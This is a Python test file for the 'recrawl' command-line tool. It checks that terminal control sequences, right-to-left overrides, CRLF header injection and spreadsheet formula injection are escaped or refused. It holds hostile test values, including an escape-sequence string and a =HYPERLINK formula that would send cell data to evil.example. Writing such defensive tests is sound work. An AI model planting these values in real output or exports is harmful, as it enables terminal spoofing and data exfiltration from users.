"""Text from the web cannot control the terminal, whatever command prints it."""

import ast
import csv
import json
import logging
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

import recrawl as library
from recrawl.cli import main
from recrawl.cli.support.output import Output, output_option, print_log_messages
from recrawl.safe_text import escape_controls
from tests.unit.cli.conftest import PAGES, Recrawl

CLI = Path(library.__file__).parent / "cli"
EVIL = "\x1b]0;owned\x07\x1b[31m\u202etxt.exe\x9b2J\r"
# Where a module other than output.py writes to stdout or stderr, and why.
WRITERS = {
    "export.py": "writes files, and escapes rows itself",
    "completion.py": "prints a script of the shell that contains no data",
    "output.py": "escapes everything",
}


def is_safe(text: str) -> bool:
    return escape_controls(text, keep_newlines=True) == text


@click.command()
@output_option
def hostile(out: Output) -> None:
    out.say(EVIL)
    out.row({EVIL: EVIL, "list": [EVIL]})
    out.table((EVIL, "n"), [(EVIL, EVIL)], title=EVIL)
    out.facts([(EVIL, EVIL)])
    out.grid([((EVIL, ""), (EVIL, "bold"))], widths=(20, None))
    out.note(EVIL)
    print_log_messages()
    logging.getLogger("recrawl.corpus").warning("%s", EVIL)


@pytest.mark.parametrize("option", ["--json", "--no-json"])
def test_every_way_to_print_is_escaped(option: str) -> None:
    result = CliRunner().invoke(hostile, [option])
    assert result.exception is None
    assert is_safe(result.stdout)
    assert is_safe(result.stderr)
    assert result.stderr.count("u202e") == 2
    if option == "--json":
        assert json.loads(result.stdout) == {EVIL: EVIL, "list": [EVIL]}
    else:
        assert result.stdout.count("owned") >= 6


def test_the_log_is_printed_only_while_a_command_runs() -> None:
    CliRunner().invoke(hostile)
    assert logging.getLogger("recrawl").handlers == []


def calls_that_print(tree: ast.Module) -> list[str]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            name = ast.unparse(node.func)
            if name in ("print", "click.echo", "click.secho", "click.echo_via_pager", "Console"):
                found.append(name)
            is_question = name.endswith((".isatty", ".fileno"))
            if name.startswith(("sys.stdout", "sys.stderr")) and not is_question:
                found.append(name)
            if "console.print" in name:
                found.append(name)
    return found


@pytest.mark.parametrize("path", sorted(CLI.rglob("*.py")), ids=lambda path: path.stem)
def test_commands_print_only_through_the_output_that_escapes(path: Path) -> None:
    if path.name not in WRITERS:
        assert calls_that_print(ast.parse(path.read_text(encoding="utf-8"))) == []


@pytest.mark.parametrize(
    "arguments",
    [
        ("explain", f"https://a.example/{EVIL}"),
        ("explain", EVIL),
        ("add", f"{EVIL}.txt"),
        ("stats", f"--{EVIL}"),
        (EVIL,),
        ("set", "--pattern", f"{EVIL}*", "--max-age", EVIL),
        ("plan", "--target", EVIL),
        ("changes", "--after", EVIL),
        ("changes", "--consumer", EVIL),
        ("signal", PAGES[0], "--source", EVIL),
    ],
    ids=lambda arguments: escape_controls("-".join(arguments)),
)
def test_messages_about_hostile_arguments_are_escaped(
    in_corpus: Recrawl, arguments: tuple[str, ...]
) -> None:
    ran = in_corpus(*arguments)
    assert ran.code != 0
    assert is_safe(ran.out)
    assert is_safe(ran.err)


def test_refused_rows_of_a_file_are_escaped(in_corpus: Recrawl, tmp_path: Path) -> None:
    (tmp_path / "urls.txt").write_text(f"{PAGES[0]}\nmailto:{EVIL}\n", encoding="utf-8")
    for option in ("--json", "--no-json"):
        ran = in_corpus("add", "urls.txt", option)
        assert is_safe(ran.out)
        assert is_safe(ran.err)


def test_a_kind_with_hostile_characters_is_escaped_everywhere(
    in_corpus: Recrawl, tmp_path: Path
) -> None:
    kind = "\u202eknid"
    (tmp_path / "recrawl.toml").write_text(
        f'[[pattern]]\nmatch = "/product/*"\nkind = "{kind}"\n', encoding="utf-8"
    )
    in_corpus("add", "https://b.example/product/3")
    for arguments in (("explain", "https://b.example/product/3"), ("plan",), ("stats",)):
        for option in ("--json", "--no-json"):
            ran = in_corpus(*arguments, option)
            assert (ran.code, is_safe(ran.out), is_safe(ran.err)) == (0, True, True)
    lines = in_corpus("export").out
    assert is_safe(lines)
    assert kind in [json.loads(line)["kind"] for line in lines.splitlines()]


def test_an_html_page_shows_hostile_characters(in_corpus: Recrawl, tmp_path: Path) -> None:
    (tmp_path / "recrawl.toml").write_text(
        '[[pattern]]\nmatch = "/product/*"\nkind = "\u202eknid"\n', encoding="utf-8"
    )
    in_corpus("add", "https://b.example/product/3")
    assert in_corpus("plan", "--plot", "plan.html").code == 0
    assert is_safe((tmp_path / "plan.html").read_text(encoding="utf-8"))


def test_csv_has_no_formulas_and_is_read_back_as_it_was(in_corpus: Recrawl, tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1)'
    kinds = [formula, "'=quoted", "-5", "@x"]
    with library.open(tmp_path) as corpus:
        for url, kind in zip(PAGES, kinds, strict=False):
            corpus.set([url], kind=kind)
    assert in_corpus("export", "-o", "pages.csv").code == 0
    with open(tmp_path / "pages.csv", encoding="utf-8", newline="") as file:
        written = {row["url"]: row["kind"] for row in csv.DictReader(file)}
    assert [written[url] for url in PAGES[:4]] == ["'" + formula, "''=quoted", "-5", "'@x"]
    ran = CliRunner().invoke(main, ["init", "copy"])
    assert ran.exit_code == 0
    assert in_corpus("-C", "copy", "import", "pages.csv").code == 0
    rows = in_corpus("-C", "copy", "export").rows
    found = {row["url"]: row["kind"] for row in rows}
    assert [found[url] for url in PAGES[:4]] == kinds


def test_add_says_which_urls_have_control_characters(in_corpus: Recrawl, tmp_path: Path) -> None:
    rows = [{"url": "https://a.example/\r\nX: y"}, {"url": "https://a.example/new"}]
    (tmp_path / "urls.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    ran = in_corpus("add", "urls.jsonl")
    assert ran.row["n_added"] == 1
    assert ran.row["refused_by_reason"] == {"with a control character": 1}


def test_report_counts_headers_that_it_does_not_store(in_corpus: Recrawl) -> None:
    line = json.dumps({"url": PAGES[0], "status": 200, "digest": "1", "etag": "1\r\nX: y"})
    assert in_corpus("report", stdin=line).row["n_dropped"] == 1
    assert "not stored" in in_corpus("report", "--no-json", stdin=line.replace("1", "2")).out
